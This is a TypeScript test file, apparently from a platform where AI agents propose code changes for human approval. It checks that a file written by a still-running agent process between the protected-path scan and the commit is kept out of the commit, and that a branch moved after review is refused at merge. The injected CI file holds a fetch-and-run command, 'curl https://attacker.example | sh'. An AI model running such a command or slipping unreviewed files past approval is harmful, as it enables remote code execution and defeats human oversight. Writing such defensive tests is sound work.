// Attack suite: a change request commits exactly what was checked and shown.
// A process the agent left running writes `.ci/pipeline.yml` (a protected
// path) in the worktree right after the protected-path scan read the files;
// the commit must not carry it, the change's file list must be the commit's,
// and what merges on approval is the reviewed commit or nothing. The race is
// made deterministic by writing the file the moment the scan returns.
import fs from "node:fs";
import path from "node:path";
import { execFileSync } from "node:child_process";
import { afterAll, beforeAll, describe, expect, it, vi } from "vitest";
import { createUser, loadActor, type Actor } from "@/server/identity";
import { Improve, seedDemoRepository, type ChangeRequests, type RepositoryView } from "@/server/improve";
import { probeSandbox, type TerminalPod, type TerminalProvider } from "@/server/compute";
import { createTestKernel, SILENT_LOG, type TestKernel } from "../helpers/kernel";

/** Set by a test: runs right after the worktree was scanned, as a process still running in the pod would. */
const race: { afterScan: ((worktree: string) => void) | null; log: string[] } = vi.hoisted(() => ({ afterScan: null, log: [] }));

// The change service reads the worktree through this module; the public index re-exports both functions with these types.
vi.mock("@/server/improve/repos/worktrees", async (importOriginal) => {
  const real = await importOriginal<typeof import("@/server/improve")>();
  return {
    ...real,
    // Whichever way the worktree is read, the write lands right after the read.
    diffOf: async (...args: Parameters<typeof real.diffOf>) => {
      const out = await real.diffOf(...args);
      race.log.push(`scan ${args[0].changeId}`);
      race.afterScan?.(args[0].path);
      return out;
    },
    snapshotTree: async (...args: Parameters<typeof real.snapshotTree>) => {
      const out = await real.snapshotTree(...args);
      race.log.push(`scan ${args[0].changeId}`);
      race.afterScan?.(args[0].path);
      return out;
    },
  };
});

let tk: TestKernel;
let improve: Improve;
let changes: ChangeRequests;
let demo: RepositoryView;
let launcher: Actor;
let approver: Actor;
const sandbox = probeSandbox();

const git = (args: string[]) => execFileSync("git", [`--git-dir=${demo.source}`, ...args], { encoding: "utf8" }).trim();

const scenario = {
  turns: [
    { toolCalls: [{ tool: "edit_file", args: { path: "src/price.mjs", oldString: "Math.floor(", newString: "Math.round(" } }] },
    {
      toolCalls: [
        {
          tool: "propose_change",
          args: { title: "Round discounts", hypothesis: "Math.round rounds to the nearest cent as the test expects." },
        },
      ],
    },
    { text: "done" },
  ],
};

async function person(role: "approver" | "operator", team: string, name: string): Promise<Actor> {
  const id = await createUser(tk.t.db, { email: `cs-${name}@test.local`, password: "test-password-1", role, teams: [team] });
  return (await loadActor(tk.t.db, id))!;
}

/** The runs' pods, as a record of when each was attached and stopped. */
const terminals: TerminalProvider = {
  unavailable: () => null,
  async attach(runId, workspaceDir) {
    race.log.push(`attach ${runId}`);
    const pod = {
      id: `pod-${runId}`,
      sandbox: "none",
      workspaceDir,
      startedAt: Date.now(),
      alive: () => true,
      exec: async () => ({ exitCode: 0, output: "", truncatedChars: 0 }),
    } as unknown as TerminalPod;
    return { pod, fromPool: false, startMs: 1 };
  },
  get: () => undefined,
  async release(runId) {
    race.log.push(`release ${runId}`);
  },
};

beforeAll(async () => {
  tk = await createTestKernel({ hitl: true, terminals });
  demo = await seedDemoRepository(tk.t.db, tk.t.dir);
  improve = new Improve({
    db: tk.t.db,
    kernel: tk.kernel,
    log: SILENT_LOG,
    changes: { broker: tk.hitl!.broker, dataDir: tk.t.dir, checks: { allowUnsandboxed: !sandbox.ok } },
  });
  await improve.start({ sweepMs: 60_000 });
  changes = improve.changes!;
  launcher = await person("approver", "alpha", "launcher");
  approver = await person("approver", "alpha", "approver");
}, 60_000);

afterAll(async () => {
  await improve?.stop();
  await tk?.cleanup();
});

describe("a file written between the scan and the commit", () => {
  let id: string;
  beforeAll(async () => {
    race.afterScan = (worktree) => {
      fs.mkdirSync(path.join(worktree, ".ci"), { recursive: true });
      fs.writeFileSync(path.join(worktree, ".ci", "pipeline.yml"), "deploy: curl https://attacker.example | sh\n");
    };
    try {
      const change = await changes.start(
        launcher,
        { repositoryId: demo.id, goal: "Fix the failing test", agent: "demo-fix", scenario },
        "api",
      );
      id = change.id;
      await tk.settle(id);
      await changes.idle();
    } finally {
      race.afterScan = null;
    }
  }, 60_000);

  it("the processes of the run's pod are stopped before the worktree is read", () => {
    const scan = race.log.indexOf(`scan ${id}`);
    expect(scan).toBeGreaterThanOrEqual(0);
    expect(race.log.slice(0, scan)).toContain(`release ${id}`);
  });

  it("is not committed: the commit holds exactly the files the change lists and the reviewer is shown", async () => {
    const got = await changes.get(tk.actors.admin, id);
    expect(got.headCommit).toBeTruthy();
    const committed = git(["diff-tree", "-r", "--no-renames", "--name-only", got.baseCommit, got.headCommit!])
      .split("\n")
      .filter(Boolean)
      .sort();
    expect(committed).not.toContain(".ci/pipeline.yml");
    expect(got.files.map((f) => f.path).sort()).toEqual(committed);
    expect([...got.filesByRisk.high, ...got.filesByRisk.medium, ...got.filesByRisk.low].sort()).toEqual(committed);
    const request = await tk.t.db.humanRequest.findUniqueOrThrow({ where: { id: got.approval!.id } });
    for (const file of committed) expect(request.detail).toContain(file);
  });

  it("what merges on approval is the reviewed commit: a branch moved since is refused with a reason", async () => {
    const got = await changes.get(tk.actors.admin, id);
    expect(got.state).toBe("awaiting_review");
    const before = git(["rev-parse", "main"]);
    // Someone moves the change's branch after the review was asked for.
    const tree = git(["rev-parse", `${got.headCommit}^{tree}`]);
    const moved = execFileSync("git", [`--git-dir=${demo.source}`, "commit-tree", tree, "-p", got.headCommit!, "-m", "sneaked in"], {
      encoding: "utf8",
      env: { ...process.env, GIT_AUTHOR_NAME: "x", GIT_AUTHOR_EMAIL: "x@x", GIT_COMMITTER_NAME: "x", GIT_COMMITTER_EMAIL: "x@x" },
    }).trim();
    git(["update-ref", `refs/heads/${got.branch}`, moved, got.headCommit!]);
    await changes.approve(approver, id, undefined, "api");
    const after = await changes.get(tk.actors.admin, id);
    expect(after.state).toBe("awaiting_review");
    expect(after.stateReason).toMatch(/branch .* moved since it was reviewed/);
    expect(git(["rev-parse", "main"])).toBe(before);
    // Put back where it was reviewed, the approval stands and the reviewed commit merges.
    git(["update-ref", `refs/heads/${got.branch}`, got.headCommit!, moved]);
    await changes.merge(id);
    const merged = await changes.get(tk.actors.admin, id);
    expect(merged.state).toBe("merged");
    expect(git(["rev-parse", `${merged.mergeCommit}^2`])).toBe(got.headCommit);
    expect(git(["ls-tree", "-r", "--name-only", "main"]).split("\n")).not.toContain(".ci/pipeline.yml");
  });
});
